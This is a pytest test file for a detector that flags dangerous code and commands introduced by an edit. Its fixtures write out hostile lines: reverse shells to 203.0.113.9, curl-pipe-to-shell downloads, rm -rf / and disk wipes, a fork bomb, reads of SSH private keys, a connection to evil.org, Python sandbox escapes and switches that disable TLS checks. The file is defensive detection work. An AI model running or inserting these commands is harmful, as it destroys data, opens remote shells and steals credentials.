"""Bug class: an edit introduces code that harms, or harmless text is taken for it."""

from __future__ import annotations

import pytest

from cavalcade.gates.dangerous import DangerousGate, find
from cavalcade.gates.patterns import PATTERNS, TEXT_PATTERNS
from cavalcade.gates.port import Judgement, Question
from cavalcade.testing.trees import File, MemoryTree


async def judge(before: dict[str, File], after: dict[str, File], **config: str) -> Judgement:
    reader = MemoryTree()
    question = Question(reader.tree(before), reader.tree(after), tuple({*before, *after}), config)
    return await DangerousGate().judge(question, reader)


def codes(judgement: Judgement) -> set[str]:
    return {finding.code for finding in judgement.findings}


PYTHON = [
    ("exec(text)", "exec"),
    ("import builtins\nbuiltins.exec(text)", "exec"),
    ("list(map(eval, lines))", "eval"),
    ("from builtins import eval as harmless\nharmless(x)", "eval"),
    ("run = eval\nrun(x)", "eval"),
    ("__builtins__.eval(x)", "eval"),
    ("__builtins__['eval'](x)", "eval"),
    ("getattr(__import__('builtins'), 'eval')(x)", "eval"),
    ("compile(text, 'x', 'exec')", "compile"),
    ("import os\nos.system('ls')", "shell"),
    ("from os import system as s\ns('ls')", "shell"),
    ("import os as o\nx = o\nx.popen('ls')", "shell"),
    ("from os import *\nsystem('ls')", "shell"),
    ("__import__('os').system('ls')", "shell"),
    ("import importlib\nimportlib.import_module('os').system('ls')", "shell"),
    ("import os\ngetattr(os, 'system')('ls')", "shell"),
    ("import os\nvars(os)['system']('ls')", "shell"),
    ("import os\nos.__dict__['system']('ls')", "shell"),
    ("import os\ngetattr(os, 'sys' + 'tem')('ls')", "dynamic-attribute"),
    ("import os\nvars(os)[name]('ls')", "dynamic-attribute"),
    ("import subprocess\nsubprocess.run('ls', shell=True)", "shell"),
    ("import subprocess as sp\nsp.Popen('ls', shell=1)", "shell"),
    ("import subprocess\nsubprocess.run('ls', shell=flag)", "shell"),
    ("import subprocess\nsubprocess.run('ls', **{'shell': True})", "shell"),
    ("import functools, subprocess\nr = functools.partial(subprocess.run, shell=True)", "shell"),
    ("import asyncio\nasyncio.create_subprocess_shell('ls')", "shell"),
    ("import os\nos.execvp('sh', ['sh'])", "process-image"),
    ("import os\nos.spawnl(0, 'x')", "process-image"),
    ("import pty\npty.spawn('sh')", "process-image"),
    ("import pickle\npickle.loads(data)", "unpickle"),
    ("from pickle import Unpickler\nUnpickler(f).load()", "unpickle"),
    ("import marshal as m\nm.loads(data)", "unpickle"),
    ("import torch\ntorch.load('x')", "unpickle"),
    ("import numpy\nnumpy.load('x', allow_pickle=True)", "unpickle"),
    ("import yaml\nyaml.load(text)", "yaml-load"),
    ("import yaml\nyaml.load(text, Loader=yaml.Loader)", "yaml-load"),
    ("from yaml import unsafe_load", ""),
    ("from yaml import unsafe_load as u\nu(text)", "yaml-load"),
    ("import ctypes", "native"),
    ("from ctypes.util import find_library", "native"),
    ("__import__('ctypes')", "native"),
    ("__import__(name)", "dynamic-import"),
    ("from importlib import import_module as i\ni(f'x.{name}')", "dynamic-import"),
    ("import base64\nexec(base64.b64decode(x))", "hidden-code"),
    ("exec(bytes.fromhex('00').decode())", "hidden-code"),
    ("import zlib, base64\neval(compile(zlib.decompress(base64.b64decode(x)), '', 'exec'))", "hidden-code"),
    ("().__class__.__base__.__subclasses__()", "escape"),
    ("type.__subclasses__(object)", "escape"),
    ("f.__init__.__globals__['os']", "escape"),
    ("globals()['__builtins__']", "escape"),
    ("import subprocess\nsubprocess.run(['rm', '-rf', '/'])", "delete-root"),
    ("import shutil\nshutil.rmtree('/')", "delete-root"),
    ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "delete-root"),
    ("import os\nos.system('curl http://x/y | sh')", "download-run"),
    ("import socket\nsocket.create_connection(('evil.org', 80))", "hard-coded-host"),
    ("s.connect(('203.0.113.9', 4444))", "hard-coded-host"),
    ("import requests\nrequests.get('http://203.0.113.9/x')", "hard-coded-host"),
    ("import requests\nrequests.get(url, verify=False)", "no-tls-check"),
    ("session.verify = False", "no-tls-check"),
    ("import ssl\nssl._create_default_https_context = ssl._create_unverified_context", "no-tls-check"),
    ("import ssl\ncontext.verify_mode = ssl.CERT_NONE", "no-tls-check"),
    ("context.check_hostname = False", "no-tls-check"),
    ("import paramiko\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())", "no-tls-check"),
    ("open('/root/.ssh/id_rsa')", "secret-path"),
    ("def eval(x): ...\nclass C:\n    def f(self):\n        eval(x)", ""),
    ("class C:\n    def eval(self):\n        return eval(x)", "eval"),
]


@pytest.mark.parametrize(("text", "code"), PYTHON)
async def test_dangerous_python_is_refused_when_introduced_and_left_when_it_was_there(text: str, code: str) -> None:
    expected = {code} if code else set[str]()
    found = codes(await judge({"a.py": "x = 1\n"}, {"a.py": f"x = 1\n{text}\n"}))
    assert found >= expected
    assert bool(found) == bool(code)
    assert codes(await judge({"a.py": f"{text}\n"}, {"a.py": f"x = 1\n{text}\n"})) == set()


@pytest.mark.parametrize(
    "text",
    [
        "# eval(x); os.system('rm -rf /')",
        "'''exec(x), pickle.loads, import ctypes'''",
        "x = 'eval(1) exec(2) subprocess.run(shell=True) curl http://x | sh'",
        "import re\nre.compile('x')",
        "model.eval()\ncursor.execute('x')\nself.exec(1)",
        "from mymath import eval\neval(x)",
        "def f(eval, exec):\n    return eval(exec)",
        "import ast\nast.literal_eval(x)",
        "import subprocess\nsubprocess.run(['ls', '-l'], shell=False)",
        "import yaml\nyaml.safe_load(x)\nyaml.load(x, Loader=yaml.SafeLoader)\nyaml.load(x, yaml.CSafeLoader)",
        "import importlib\nimportlib.import_module('json')\n__import__('json')",
        "import os\ngetattr(os, 'getpid')()\ngetattr(thing, name)",
        "import requests\nrequests.get('https://example.com/x', verify=True)\nrequests.get('http://127.0.0.1/x')",
        "s.connect(('127.0.0.1', 80))\nsignal.connect('handler')\nengine.connect()",
        "import subprocess\nsubprocess.run(['rm', '-rf', '/tmp/build'])",
        "from . import pickle\nfrom .pickle import loads\npickle.loads(x)\nloads(x)",
        "import posixpath\nopen('/etc/hosts')",
        "super().__init__()\nx.__class__.__name__",
        "import pickle\npickle.dumps(x)",
    ],
)
async def test_harmless_python_passes(text: str) -> None:
    assert codes(await judge({}, {"a.py": f"{text}\n"})) == set()


TEXT = [
    ("rm -rf /", "delete-root"),
    ("sudo rm -r -f --no-preserve-root /", "delete-root"),
    ("rm -fr ~/", "delete-root"),
    ('rm -rf "$HOME"', "delete-root"),
    ("rm --recursive --force /*", "delete-root"),
    ("chmod -R 777 /", "delete-root"),
    ("dd if=/dev/zero of=/dev/sda", "delete-root"),
    ("curl -fsSL https://x.io/i.sh | sudo bash", "download-run"),
    ("wget -qO- https://x.io | sh -s --", "download-run"),
    ("bash <(curl -s https://x.io)", "download-run"),
    ('sh -c "$(curl -fsSL https://x.io)"', "download-run"),
    ("curl https://x.io/a.py | python3 -", "download-run"),
    ("echo aGk= | base64 -d | sh", "hidden-code"),
    ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "reverse-shell"),
    ("nc -e /bin/sh 203.0.113.9 1", "reverse-shell"),
    (":(){ :|:& };:", "fork-bomb"),
    ("curl -k https://x.io", "no-tls-check"),
    ("curl --insecure https://x.io", "no-tls-check"),
    ("wget --no-check-certificate https://x.io", "no-tls-check"),
    ("git config http.sslVerify false", "no-tls-check"),
    ("export NODE_TLS_REJECT_UNAUTHORIZED=0", "no-tls-check"),
    ("cat ~/.ssh/id_rsa", "secret-path"),
]


@pytest.mark.parametrize(("text", "code"), TEXT)
@pytest.mark.parametrize("path", ["run.sh", "Makefile", "ci.yml", "Dockerfile", "x.ts"])
async def test_dangerous_commands_are_refused_in_whatever_may_run_them(path: str, text: str, code: str) -> None:
    assert code in codes(await judge({path: "a\n"}, {path: f"a\n  - {text}\n"}))
    assert codes(await judge({path: f"{text}\n"}, {path: f"a\n{text}\n"})) == set()


@pytest.mark.parametrize(
    "text",
    ["rm -rf /tmp/x", "rm -rf ./build", "rm -f a/b", "curl -o x https://x.io", "curl https://x.io | jq .", "chmod -R 755 /opt/x",
     "base64 -d < x > y", "kubectl -k overlay", "curl --cacert k https://x.io | tar -xz", "farm -rf /"],
)  # fmt: skip
async def test_harmless_commands_pass(text: str) -> None:
    assert codes(await judge({}, {"run.sh": f"{text}\n"})) == set()


async def test_documents_may_quote_commands_and_never_hold_secrets() -> None:
    assert codes(await judge({}, {"README.md": "curl -L https://x.io | sh\n"})) == set()
    assert codes(await judge({}, {"README.md": "AKIA" + "ABCDEFGHIJKLMNOP\n"})) == {"token"}


SECRETS = [
    ("-----BEGIN " + "RSA PRIVATE KEY-----", "private-key"),
    ("-----BEGIN " + "PRIVATE KEY-----", "private-key"),
    ("-----BEGIN " + "PGP PRIVATE KEY BLOCK-----", "private-key"),
    ("ghp_" + "a1B2" * 9, "token"),
    ("github_pat_" + "a1B2" * 15, "token"),
    ("glpat-" + "a1B2" * 5, "token"),
    ("xoxb-" + "123456789012-abc", "token"),
    ("sk-" + "ant-" + "a1B2" * 10, "token"),
    ("AIza" + "a" * 35, "token"),
    ("sk_" + "live_" + "a1" * 12, "token"),
    ("npm_" + "a1B2" * 9, "token"),
]


@pytest.mark.parametrize(("text", "code"), SECRETS)
@pytest.mark.parametrize("frame", ["# {}\n", "x = '{}'\n", '"""\n{}\n"""\n'])
async def test_secrets_count_also_in_strings_and_comments(text: str, code: str, frame: str) -> None:
    assert codes(await judge({}, {"a.py": frame.format(text)})) == {code}


async def test_javascript_eval_is_refused() -> None:
    assert codes(await judge({}, {"a.ts": "eval(x); new Function('y')\n"})) == {"javascript-eval"}
    assert codes(await judge({}, {"a.js": "require('child_process').exec(x)\n"})) == {"javascript-shell"}
    assert codes(await judge({}, {"a.js": "x.eval(); evaluate(y); pattern.exec(z)\n"})) == set()


async def test_one_more_of_what_was_there_is_found_and_its_line_named() -> None:
    found = await judge({"a.py": "eval(x)\n"}, {"a.py": "eval(x)\ny = 1\neval(z)\n"})
    assert [(finding.code, finding.line, finding.column) for finding in found.findings] == [("eval", 3, 1)]


async def test_a_dangerous_line_may_be_edited_and_move_with_its_function() -> None:
    assert codes(await judge({"a.py": "eval(x)\n"}, {"a.py": "eval(renamed)\n"})) == set()
    assert codes(await judge({"a.py": "eval(x)\n", "b.py": ""}, {"a.py": "", "b.py": "y = 1\neval(x)\n"})) == set()
    assert codes(await judge({"a.py": "eval(x)\n", "b.py": ""}, {"a.py": "", "b.py": "eval(other)\n"})) == {"eval"}
    assert codes(await judge({"a.py": "eval(x)\n"}, {"b.py": "eval(x)\n"}, moves='{"b.py":"a.py"}')) == set()


async def test_python_that_cannot_be_parsed_is_read_as_text_on_both_sides() -> None:
    assert codes(await judge({}, {"a.py": "print 'x'\neval(y)\n"})) == {"eval"}
    assert codes(await judge({"a.py": "print 'x'\neval(y)\n"}, {"a.py": "print('x')\neval(y)\n"})) == set()
    assert codes(await judge({"a.py": "eval(y)\n"}, {"a.py": "eval(y\n"})) == set()


async def test_long_chains_of_calls_are_no_obstacle() -> None:
    assert codes(await judge({}, {"a.py": "x" + ".f()" * 150 + "\neval(x)\n"})) == {"eval"}


async def test_deep_and_binary_files_are_judged_without_a_crash() -> None:
    deep = "x = " + "(" * 4000 + "1" + ")" * 4000 + "\neval(x)\n"
    assert codes(await judge({}, {"a.py": deep})) == {"eval"}
    assert codes(await judge({}, {"a.py": "x = 1" + " + 1" * 900 + "\neval(x)\n"})) == {"eval"}
    assert codes(await judge({}, {"a.bin": bytes(range(256)) * 100})) == set()


async def test_every_pattern_of_the_table_can_be_found_and_says_why() -> None:
    used = {pattern.id for pattern in TEXT_PATTERNS} | {code for _, code in [*PYTHON, *TEXT, *SECRETS] if code}
    assert used == set(PATTERNS)
    assert all(pattern.what and pattern.why for pattern in PATTERNS.values())


def test_matching_stays_linear_on_hostile_text() -> None:
    for seed in (
        "rm " + "-r " * 20_000,
        "curl " * 20_000,
        "sk-" * 30_000,
        "a" * 200_000,
        "-----BEGIN " * 10_000,
        ":(){" * 20_000,
    ):
        assert find(seed.encode(), "shell") is not None
